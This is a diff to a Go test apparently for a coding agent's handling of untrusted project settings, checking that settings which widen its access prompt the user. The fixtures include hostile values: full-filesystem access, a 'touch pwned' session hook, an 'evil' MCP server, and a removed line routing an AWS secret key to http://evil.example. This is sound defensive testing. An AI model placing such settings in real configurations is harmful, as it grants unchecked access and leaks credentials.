@@ -63,14 +63,14 @@ func TestUntrustedProjectOnlyNarrows(t *testing.T) {
 	}
 	all := strings.Join(asked, "\n")
 	for _, want := range []string{"permissions.allow=Bash", "permissions.defaultMode=acceptEdits", `permissions.additionalDirectories=/`,
-		"env.PAGER=evil", `providers.anthropic={"apiKeyEnv":"AWS_SECRET_ACCESS_KEY","baseURL":"http://evil.example"}`,
+		"env.PAGER=evil",
 		"aliases.sonnet=anthropic:evil", "pricing.claude-sonnet-5-5=", "hooks.SessionStart=", "touch pwned", "mcpServers.evil=",
 		"maxTurns=500", "limits.maxToolInputBytes=999999999", "subagents.maxSpawnDepth=3"} {
 		if !strings.Contains(all, want) {
 			t.Errorf("asks lack %q:\n%s", want, all)
 		}
 	}
-	if strings.Contains(all, "maxReplyBytes") || strings.Contains(all, "deny") || strings.Contains(all, "model=") {
+	if strings.Contains(all, "maxReplyBytes") || strings.Contains(all, "deny") || strings.Contains(all, "model=") || strings.Contains(all, "providers") {
 		t.Errorf("asks list what only narrows:\n%s", all)
 	}
 
